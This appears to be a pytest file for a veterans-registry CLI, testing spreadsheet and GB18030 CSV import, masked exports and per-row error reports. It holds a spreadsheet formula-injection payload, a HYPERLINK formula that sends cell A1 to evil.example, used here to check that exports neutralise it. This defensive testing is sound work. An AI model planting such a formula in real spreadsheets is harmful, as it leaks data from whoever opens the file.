"""vetctl import / export: xlsx and GB18030 csv with Chinese headers, bad rows reported,
a second run creating nothing, the file's problems (another encoding) named in one line,
what is exported data (never a formula), ID numbers typed as numbers and oversized cells
refused by row."""

import csv
import json

import openpyxl
import pytest

from tests.factories import COUNTY_SHEET_HEADERS, make_veteran, unique_id_numbers
from tests.helpers import scalar

HEADERS = COUNTY_SHEET_HEADERS
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def rows(n, bad_every=0):
    """Rows as a county office's spreadsheet has them: Chinese labels, 、-separated lists,
    Excel dates. Every ``bad_every``-th row has a bad phone."""
    for i, number in enumerate(unique_id_numbers(n)):
        v = make_veteran(id_number=number)
        phone = "12345" if bad_every and i % bad_every == bad_every - 1 else f"139{i:08d}"
        yield [
            v["id_number"],
            v["name"],
            phone,
            v["county_code"],
            v["discharged_on"],
            "自主就业",
            "B2驾驶、保安",
            "job",
            "未就业",
            "岗位推荐，技能培训",
            "驾驶员",
            4000,
        ]


def write_xlsx(path, n, bad_every=0):
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet()
    sheet.append(HEADERS)
    for row in rows(n, bad_every):
        sheet.append(row)
    book.save(path)


def test_a_10000_row_xlsx_imports_with_its_bad_rows_reported_and_twice_is_harmless(
    system, vetctl, tmp_path, db
):
    path = tmp_path / "昌吉市退役军人.xlsx"
    write_xlsx(path, 10_000, bad_every=1_000)
    result = json.loads(vetctl("--json", "import", "veterans", path))
    assert (result["created"], result["duplicate"], result["rejected"]) == (9_990, 0, 10)
    assert scalar(db, "SELECT count(*) FROM registry.veterans") == 9_990
    with open(result["report"], encoding="utf-8-sig") as handle:
        reported = list(csv.DictReader(handle))
    assert len(reported) == 10
    assert {r["field"] for r in reported} == {"phone"}
    assert [int(r["row"]) for r in reported] == [1_001 + 1_000 * k for k in range(10)]
    # Labels became codes on the way in.
    assert scalar(db, "SELECT skills FROM registry.veterans LIMIT 1") == [
        "driver_b2",
        "security_guard",
    ]
    assert scalar(db, "SELECT service_needs FROM registry.veterans LIMIT 1") == [
        "job_referral",
        "skills_training",
    ]

    again = json.loads(vetctl("--json", "import", "veterans", path))
    assert (again["created"], again["duplicate"], again["rejected"]) == (0, 9_990, 10)
    assert scalar(db, "SELECT count(*) FROM registry.veterans") == 9_990


def test_a_gb18030_csv_imports_and_says_what_it_did(system, vetctl, tmp_path, db):
    path = tmp_path / "阜康市.csv"
    with open(path, "w", encoding="gb18030", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(HEADERS)
        writer.writerows(rows(50, bad_every=10))
    assert "。" not in path.read_bytes().decode("gb18030")  # really GB18030, not UTF-8
    with pytest.raises(UnicodeDecodeError):
        path.read_bytes().decode("utf-8")
    out = vetctl("import", "veterans", path)
    assert "45 created, 0 duplicate, 5 rejected" in out
    assert scalar(db, "SELECT count(*) FROM registry.veterans") == 45
    assert (
        scalar(db, "SELECT name FROM registry.veterans LIMIT 1")[0]
        in "王李张刘陈杨赵黄周吴徐孙马朱胡郭何高林罗欧"
    )


@pytest.mark.parametrize(
    "content,message",
    [
        (None, "no such file"),
        (b"not a workbook", "not a readable .xlsx file"),
    ],
)
def test_a_file_that_cannot_be_read_is_one_line(system, vetctl, tmp_path, content, message):
    path = tmp_path / "名册.xlsx"
    if content is not None:
        path.write_bytes(content)
    out = vetctl("import", "veterans", path, expect=1)
    assert message in out and "Traceback" not in out


def test_a_file_without_an_id_number_column_is_refused(system, vetctl, tmp_path):
    path = tmp_path / "名册.csv"
    path.write_text("姓名,手机\n张伟,13900000000\n", encoding="utf-8")
    assert "no ID number column" in vetctl("import", "veterans", path, expect=1)


def test_export_writes_masked_id_numbers_and_no_contact_details(system, vetctl, tmp_path, rpc):
    # Distinct ID numbers: make_veteran's random ones come from a small space.
    numbers = list(unique_id_numbers(4))
    veterans = [
        rpc.registry.register_veteran(make_veteran(id_number=n, county_code="652301"))
        for n in numbers[:3]
    ]
    rpc.registry.register_veteran(make_veteran(id_number=numbers[3], county_code="652302"))
    out = tmp_path / "昌吉市.csv"
    assert "3 veterans written" in vetctl(
        "export", "veterans", "--county", "652301", "--format", "csv", "-o", out
    )
    with open(out, encoding="utf-8-sig") as handle:
        exported = list(csv.DictReader(handle))
    assert sorted(r["id"] for r in exported) == sorted(v["id"] for v in veterans)
    masks = sorted(n[:6] + "*" * 11 + n[-1] for n in numbers[:3])
    assert sorted(r["id_number"] for r in exported) == masks
    assert not {"phone", "address"} & set(exported[0])
    xlsx = tmp_path / "all.xlsx"
    vetctl("export", "veterans", "--format", "xlsx", "-o", xlsx)
    book = openpyxl.load_workbook(xlsx, read_only=True)  # keeps the file open until close()
    try:
        assert len(list(book.worksheets[0].iter_rows(values_only=True))) == 5  # header + 4
    finally:
        book.close()


def test_enterprises_import_with_founders_by_id_number(system, vetctl, tmp_path, rpc, db):
    founder = make_veteran(willingness="business")
    rpc.registry.register_veteran(founder)
    path = tmp_path / "企业.csv"
    path.write_text(
        "类型,统一社会信用代码,名称,县市区代码,行业,成立日期,阶段,创办人身份证号\n"
        f"企业,91652301MA78K2Q5X3,昌吉市顺达物流有限公司,652301,物流,2025-05-01,初创期,{founder['id_number']}\n"
        f"个体工商户,,老兵面馆,652301,餐饮,2024-03-01,经营期,{founder['id_number']}\n"
        "企业,91652301MA78K2Q5X4,坏代码公司,652301,物流,2025-05-01,初创期,"
        f"{founder['id_number']}\n"
        "个体工商户,,无人认领,652301,零售,2024-03-01,经营期,110101199003070000\n",
        encoding="utf-8",
    )
    result = json.loads(vetctl("--json", "import", "enterprises", path))
    assert (result["created"], result["duplicate"], result["rejected"]) == (2, 0, 2)
    with open(result["report"], encoding="utf-8-sig") as handle:
        reported = {(r["row"], r["field"]) for r in csv.DictReader(handle)}
    assert ("4", "uscc") in reported and ("5", "founder_id_numbers.0") in reported
    again = json.loads(vetctl("--json", "import", "enterprises", path))
    assert (again["created"], again["duplicate"], again["rejected"]) == (0, 2, 2)
    assert scalar(db, "SELECT count(*) FROM registry.enterprises") == 2


def digit_id_numbers(count):
    """Distinct valid ID numbers of digits only (none ending in X): typeable as numbers."""
    found = []
    while len(found) < count:
        found += [number for number in unique_id_numbers(count) if number.isdigit()]
    return found[:count]


def test_export_writes_names_that_look_like_formulas_as_text(system, vetctl, tmp_path, rpc):
    names = [FORMULA, "+86张伟", "-李强", "@王磊"]
    for name, number in zip(names, unique_id_numbers(len(names)), strict=True):
        rpc.registry.register_veteran(make_veteran(id_number=number, name=name))
    xlsx, csv_path = tmp_path / "all.xlsx", tmp_path / "all.csv"
    vetctl("export", "veterans", "--format", "xlsx", "-o", xlsx)
    vetctl("export", "veterans", "--format", "csv", "-o", csv_path)
    header, *written = openpyxl.load_workbook(xlsx).worksheets[0].iter_rows()
    name = [cell.value for cell in header].index("name")
    assert sorted((row[name].data_type, row[name].value) for row in written) == sorted(
        ("s", n) for n in names
    )
    with open(csv_path, encoding="utf-8-sig", newline="") as handle:
        assert sorted(r["name"] for r in csv.DictReader(handle)) == sorted("'" + n for n in names)


def test_id_numbers_typed_as_numbers_are_rejected_naming_row_and_column(
    system, vetctl, tmp_path, db
):
    good, as_float, as_int, good_too = digit_id_numbers(4)
    # A float as Excel keeps a number typed in a General cell (15 significant digits), an
    # int as a program writing the number leaves it: neither is taken.
    numbers = [good, float(as_float), int(as_int), good_too]
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet()
    sheet.append(HEADERS)
    for number, row in zip(numbers, rows(4), strict=True):
        sheet.append([number, *row[1:]])
    xlsx = tmp_path / "名册.xlsx"
    book.save(xlsx)
    result = json.loads(vetctl("--json", "import", "veterans", xlsx))
    assert (result["created"], result["rejected"]) == (2, 2)
    with open(result["report"], encoding="utf-8-sig") as handle:
        reported = [(r["row"], r["field"], r["message"]) for r in csv.DictReader(handle)]
    message = "an ID number must be entered as text, not a number (Excel rounds it)"
    assert reported == [("3", "id_number", message), ("4", "id_number", message)]
    with db.cursor() as cur:
        cur.execute("SELECT id_number FROM registry.veterans")
        registered = {number for (number,) in cur.fetchall()}
    assert registered == {good, good_too}  # nobody for rows 3 and 4, rounded or not

    # The same as Excel saves such a cell in a CSV; an unknown header echoed as data.
    path = tmp_path / "名册.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow([*HEADERS, FORMULA])
        writer.writerows([["6.52301E+17", *row[1:], "x"] for row in rows(1)])
    result = json.loads(vetctl("--json", "import", "veterans", path))
    assert (result["created"], result["rejected"]) == (0, 1)
    with open(result["report"], encoding="utf-8-sig") as handle:
        assert list(csv.reader(handle))[1:] == [
            ["header", "'" + FORMULA, "column not recognised: ignored"],
            ["2", "id_number", message],
        ]
    assert scalar(db, "SELECT count(*) FROM registry.veterans") == 2


def test_an_oversized_cell_is_rejected_naming_its_row_and_column(system, vetctl, tmp_path, db):
    path = tmp_path / "名册.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(HEADERS)
        first, second, third = rows(3)
        writer.writerows([first, [second[0], "张" * 200_000, *second[2:]], third])
    result = json.loads(vetctl("--json", "import", "veterans", path))
    assert (result["created"], result["rejected"]) == (2, 1)
    with open(result["report"], encoding="utf-8-sig") as handle:
        (reported,) = csv.DictReader(handle)
    assert (reported["row"], reported["field"]) == ("3", "name")
    assert "200,000 characters" in reported["message"]
    assert scalar(db, "SELECT count(*) FROM registry.veterans WHERE id_number = %s", second[0]) == 0


@pytest.mark.parametrize("encoding", ["utf-16", "latin-1"])
def test_a_csv_in_another_encoding_is_one_line_naming_the_accepted_ones(vetctl, tmp_path, encoding):
    path = tmp_path / "名册.csv"
    text = "id_number,name\n652301199206150714,André,\n"
    path.write_bytes(text.encode(encoding))
    out = vetctl("import", "veterans", path, expect=1)
    assert "accepted encodings: UTF-8 (with or without BOM), GB18030" in out
    assert "Traceback" not in out and "UnicodeDecodeError" not in out
    assert len(out.strip().splitlines()) == 1


def test_an_old_sheet_with_old_labels_still_imports_and_the_new_columns_are_read(
    system, vetctl, tmp_path, db
):
    # A sheet from before issue 19: 士官 (now 军士), 升学 (now split into 复学/考试入学); and one
    # of today's with the card's new columns.
    path = tmp_path / "旧台账.csv"
    first, second = unique_id_numbers(2)
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(
            [*HEADERS, "衔级类别", "政治面貌", "优待证号", "报到时间", "户籍地", "采集人"]
        )
        for number, extra in (
            (first, ["士官", "", "", "", "", ""]),
            (second, ["军士", "中共党员", "YD0099", "2017-02-01", "652301100001", "村站"]),
        ):
            writer.writerow(
                [
                    number,
                    "张伟",
                    "13912345678",
                    "652301",
                    "2016-12-01",
                    "自主就业",
                    "B2驾驶",
                    "job",
                    "升学",
                    "岗位推荐",
                    "驾驶员",
                    4000,
                    *extra,
                ]
            )
    result = json.loads(vetctl("--json", "import", "veterans", path))
    assert (result["created"], result["rejected"]) == (2, 0)
    with db.cursor() as cur:
        cur.execute(
            "SELECT rank_category, employment_status, political_status,"
            " preferential_card_number, reported_on::text, hukou_place, collected_by, flags"
            " FROM registry.veterans ORDER BY id_number = %s",
            (second,),
        )
        old, new = cur.fetchall()
    assert old[:4] == ("nco", "further_education", None, None)
    assert old[6] == "op-test"  # collected by the importing operator
    assert new[:7] == (
        "nco",
        "further_education",
        "cpc_member",
        "YD0099",
        "2017-02-01",
        "652301100001",
        "村站",
    )
    # (id_division_unverified too when the generated birth year predates the division)
    assert new[7][-2:] == ["possible_duplicate", "late_report"]
    assert "late_report" not in old[7]
